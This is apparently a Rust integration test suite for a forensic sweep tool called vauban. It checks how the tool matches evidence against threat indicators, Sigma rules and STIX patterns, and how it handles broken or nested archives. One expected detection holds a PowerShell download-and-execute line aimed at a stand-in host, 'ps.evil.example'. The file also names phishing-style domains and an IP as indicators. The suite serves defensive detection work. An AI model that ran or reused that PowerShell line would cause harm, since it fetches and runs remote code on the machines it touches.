//! The program as a person runs it: what it says, how it ends, and that nothing is passed over.

use std::{
    fs,
    io::Write as _,
    path::Path,
    process::{Command, Stdio},
};

use serde_json::Value;

use crate::runs::{sweep, vauban};

fn example(name: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples").join(name).display().to_string()
}

#[test]
fn the_example_tells_its_story() {
    let state = tempfile::tempdir().unwrap();
    let run = sweep(state.path(), &[&example("evidence")]);
    assert_eq!(run.status, 1, "{}", run.talk);
    let met: Vec<(&str, &str)> = run
        .of("sighting")
        .iter()
        .map(|line| (line["indicator"]["value"].as_str().unwrap(), line["exposure"].as_str().unwrap()))
        .collect();
    for wanted in [
        ("com-securitysettingpage.tk", "received"),
        ("portal-office.fr", "received"),
        ("microsoftsupp.com", "present"),
        ("accoounts-google.com", "contacted"),
        ("45.32.129.185", "contacted"),
    ] {
        assert!(met.contains(&wanted), "{wanted:?} is not in {met:?}");
    }
    assert_eq!(run.reason("minutes-board-2017-04-03.odt"), ["encrypted"]);
    let human = vauban(state.path(), &["sweep", &example("evidence")]);
    let text = String::from_utf8(human.stdout).unwrap();
    assert!(text.lines().all(|line| line.chars().count() <= 80), "{text}");
    let listed = vauban(state.path(), &["record", "list"]);
    assert_eq!(String::from_utf8(listed.stdout).unwrap().lines().count(), 2);
    assert!(vauban(state.path(), &["record", "verify"]).status.success());
    let exported = vauban(state.path(), &["record", "export", "--format", "stix", "--clearance", "TLP:RED"]);
    let bundle: Value = serde_json::from_slice(&exported.stdout).unwrap();
    assert!(bundle["objects"].as_array().unwrap().iter().any(|object| object["type"] == "sighting"));
}

#[test]
fn events_meet_the_rules_over_events() {
    let folder = tempfile::tempdir().unwrap();
    let (state, tree) = (folder.path().join("state"), folder.path().join("logs"));
    fs::create_dir(&tree).unwrap();
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("../observe/src/formats");
    fs::copy(fixtures.join("evtx/fixtures/sysmon.evtx"), tree.join("sysmon.evtx")).unwrap();
    fs::copy(fixtures.join("event_json/fixtures/winlogbeat.jsonl"), tree.join("beats.jsonl")).unwrap();
    let tree = tree.display().to_string();
    let events = |arguments: &[&str]| -> Vec<String> {
        let run = sweep(&state, arguments);
        let met = run.of("sighting").into_iter().filter(|line| line["observable"]["type"] == "event");
        let words = met.map(|line| {
            let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
            [&line["indicator"]["name"], &line["observable"]["value"], &line["exposure"], &line["excerpt"]]
                .map(text)
                .join(" | ")
        });
        words.collect()
    };
    let script = "PowerShell script downloads and runs code | Microsoft-Windows-PowerShell 4104 | executed | \
                  ScriptBlockText: IEX (New-Object Net.WebClient).DownloadString('http://ps.evil.example/x')";
    assert_eq!(events(&[&tree]), [script]);
    let rule = |id: &str, field: &str| {
        format!(
            "title: Ours {id}\nid: 6ba7b810-9dad-11d1-80b4-00c04fd4300{id}\nlogsource:\n  product: windows\n  \
             category: process_creation\ndetection:\n  s:\n    {field}\n  condition: s\nlevel: low\n"
        )
    };
    let rules = folder.path().join("rules.yml");
    let named = rules.display().to_string();
    fs::write(&rules, rule("1", "Image|endswith: '\\z.exe'")).unwrap();
    let met = events(&[&tree, "--intel", &named]);
    assert!(met.iter().any(|one| one.starts_with("Ours 1 | Microsoft-Windows-Sysmon 1 | executed")), "{met:?}");
    assert!(met.iter().any(|one| one == script), "{met:?}");
    // Files that did not change are read again when only such a rule did, and one that cannot be evaluated is said.
    fs::write(&rules, [rule("2", "ParentImage|contains: winword"), rule("3", "Image|re: '(?=x)'")].join("---\n"))
        .unwrap();
    let met = events(&[&tree, "--intel", &named]);
    assert!(met.iter().any(|one| one.starts_with("Ours 2 | Microsoft-Windows-Sysmon 1 | executed")), "{met:?}");
    let run = vauban(&state, &["sweep", &tree, "--intel", &named]);
    let told = String::from_utf8(run.stderr).unwrap();
    assert!(told.contains("1 indicator rows or rules refused"), "{told}");
}

#[test]
fn every_input_is_accounted_for() {
    let folder = tempfile::tempdir().unwrap();
    let tree = folder.path().join("tree");
    fs::create_dir(&tree).unwrap();
    let put = |name: &str, bytes: &[u8]| fs::write(tree.join(name), bytes).unwrap();
    put("plain.txt", b"nothing here");
    put("empty", b"");
    put("winmail.dat", b"\x78\x9f\x3e\x22 and more");
    put("old.rar", b"Rar!\x1a\x07\x01\x00 and more");
    put("cut.gz", &gzip(&b"x".repeat(100_000))[..60]);
    put("big.txt", &b"a line of text\n".repeat(100_000));
    put("big.zip", &zip(&[("zeros", &vec![0; 3_000_000])]));
    put("two.zip", &zip(&[("a.txt", b"one"), ("b.txt", b"two")]));
    let mut nested = zip(&[("end.txt", b"deep")]);
    for level in 0..10 {
        nested = zip(&[(&format!("level{level}.zip"), &nested)]);
    }
    put("depth10.zip", &nested);
    for level in 10..14 {
        nested = zip(&[(&format!("level{level}.zip"), &nested)]);
    }
    put("depth14.zip", &nested);
    std::os::unix::fs::symlink(&tree, tree.join("loop")).unwrap();
    let socket = std::os::unix::net::UnixListener::bind(tree.join("socket")).unwrap();
    let path = tree.display().to_string();
    let run = sweep(&folder.path().join("state"), &["--max-item-bytes", "1000000", "--max-depth", "12", &path]);
    drop(socket);
    let summary = run.summary();
    let number = |field: &str| summary[field].as_u64().unwrap();
    assert_eq!(number("files") + number("items"), number("read") + number("unread"), "{summary}");
    assert_eq!(number("files"), 11, "{summary}");
    assert_eq!(number("unread"), run.of("unread").len() as u64);
    assert_eq!(run.status, 3);
    for (end, reason) in [
        ("old.rar", "unsupported"),
        ("winmail.dat", "unsupported"),
        ("cut.gz", "corrupt"),
        ("big.zip", "too-large"),
        ("socket", "unsupported"),
        ("depth14.zip", "too-deep"),
    ] {
        assert!(run.reason(end).contains(&reason.to_owned()), "{end}: {:?}", run.reason(end));
    }
    for read in ["plain.txt", "empty", "two.zip", "depth10.zip", "big.txt"] {
        assert!(run.reason(read).is_empty(), "{read}: {:?}", run.reason(read));
    }
}

#[test]
fn bad_arguments_and_bad_input_end_with_a_sentence() {
    let folder = tempfile::tempdir().unwrap();
    let state = folder.path().join("state");
    let missing = folder.path().join("missing").display().to_string();
    let run = vauban(&state, &["sweep", &missing]);
    assert_eq!(run.status.code(), Some(2));
    let talk = String::from_utf8_lossy(&run.stderr).into_owned();
    assert!(talk.contains("does not exist") && talk.contains("hint:"), "{talk}");
    let note = folder.path().join("note.txt");
    fs::write(&note, "evil.example and nothing more").unwrap();
    let note = note.display().to_string();
    let run = sweep(&state, &[&note, &missing]);
    assert_eq!((run.status, run.reason("missing")), (3, vec!["denied".to_owned()]));
    assert_eq!(vauban(&state, &["sweep", "--intel", &missing, &note]).status.code(), Some(2));
    let broken = folder.path().join("broken.json");
    fs::write(&broken, r#"{"type":"bundle","objects":[{"type":"indicator","#).unwrap();
    let check = vauban(&state, &["intel", "check", &broken.display().to_string()]);
    assert_eq!(check.status.code(), Some(1), "{}", String::from_utf8_lossy(&check.stdout));
    assert_eq!(vauban(&state, &["sweep"]).status.code(), Some(2));
    let list = folder.path().join("list.txt");
    fs::write(&list, "evil.example\n???\n8.8.8.8\n").unwrap();
    let run = sweep(&state, &["--intel", &list.display().to_string(), &note]);
    assert_eq!(run.status, 1, "one bad row costs itself: {}", run.talk);
    let check = vauban(&state, &["intel", "check", &list.display().to_string()]);
    let told = String::from_utf8_lossy(&check.stdout).into_owned();
    assert!(told.contains("1 indicators, 1 set aside, 1 refused"), "{told}");
}

#[test]
fn a_state_that_cannot_be_written_costs_the_record_not_the_report() {
    let folder = tempfile::tempdir().unwrap();
    let state = folder.path().join("state");
    fs::write(&state, "a file where a folder should be").unwrap();
    let run = sweep(&state, &[&example("evidence")]);
    assert_eq!(run.status, 1);
    assert!(run.talk.contains("not wholly in the record"), "{}", run.talk);
}

#[test]
fn patterns_are_answered_line_by_line() {
    let mut child = Command::new(env!("CARGO_BIN_EXE_vauban"))
        .args(["pattern", "check"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(b"{\"pattern\":\"[a:b = 1]\"}\nnot json\n{\"pattern\":\"[a:b\"}\n").unwrap();
    let output = child.wait_with_output().unwrap();
    let valid: Vec<bool> = String::from_utf8(output.stdout)
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap()["valid"].as_bool().unwrap())
        .collect();
    assert_eq!(valid, [true, false, false]);
}

#[test]
fn a_pattern_over_several_observables_is_a_sighting() {
    let folder = tempfile::tempdir().unwrap();
    let bundle = folder.path().join("intel.json");
    let pattern = "[file:name = 'dropper.exe' AND file:size < 100]";
    let indicator = serde_json::json!({
        "type": "indicator", "spec_version": "2.1", "id": "indicator--6ba7b810-9dad-41d1-80b4-00c04fd430c8",
        "created": "2020-01-01T00:00:00Z", "modified": "2020-01-01T00:00:00Z", "valid_from": "2020-01-01T00:00:00Z",
        "pattern": pattern, "pattern_type": "stix", "name": "small dropper",
    });
    let id = "bundle--6ba7b810-9dad-41d1-80b4-00c04fd430c9";
    fs::write(&bundle, serde_json::json!({"type": "bundle", "id": id, "objects": [indicator]}).to_string()).unwrap();
    for (size, status) in [(10, 1), (1_000, 0)] {
        let evidence = folder.path().join("dropper.exe");
        fs::write(&evidence, vec![b'x'; size]).unwrap();
        let run = sweep(
            &folder.path().join("state"),
            &["--intel", &bundle.display().to_string(), &evidence.display().to_string()],
        );
        assert_eq!(run.status, status, "{size} bytes: {:?}", run.lines);
    }
}

/// A stored or repetitive body through the simplest of writers; what it writes is read by the product's own readers.
fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut child = Command::new("gzip").arg("-c").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    let mut input = child.stdin.take().unwrap();
    let bytes = bytes.to_vec();
    let writer = std::thread::spawn(move || input.write_all(&bytes));
    let output = child.wait_with_output().unwrap();
    writer.join().unwrap().unwrap();
    output.stdout
}

/// A ZIP of stored members.
fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for (name, bytes) in members {
        let offset = u32::try_from(out.len()).unwrap();
        let size = u32::try_from(bytes.len()).unwrap();
        let mut fields = Vec::new();
        fields.extend([20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0x4a]);
        fields.extend(crc(bytes).to_le_bytes());
        fields.extend(size.to_le_bytes());
        fields.extend(size.to_le_bytes());
        fields.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
        fields.extend([0, 0]);
        out.extend(b"PK\x03\x04");
        out.extend(&fields);
        out.extend(name.as_bytes());
        out.extend(*bytes);
        directory.extend(b"PK\x01\x02\x14\0");
        directory.extend(&fields);
        directory.extend([0; 10]);
        directory.extend(offset.to_le_bytes());
        directory.extend(name.as_bytes());
    }
    let (start, length) = (u32::try_from(out.len()).unwrap(), u32::try_from(directory.len()).unwrap());
    let count = u16::try_from(members.len()).unwrap().to_le_bytes();
    out.extend(directory);
    out.extend(b"PK\x05\x06\0\0\0\0");
    out.extend(count);
    out.extend(count);
    out.extend(length.to_le_bytes());
    out.extend(start.to_le_bytes());
    out.extend([0, 0]);
    out
}

fn crc(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(!0_u32, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| if crc & 1 == 1 { crc >> 1 ^ 0xedb8_8320 } else { crc >> 1 })
    })
}
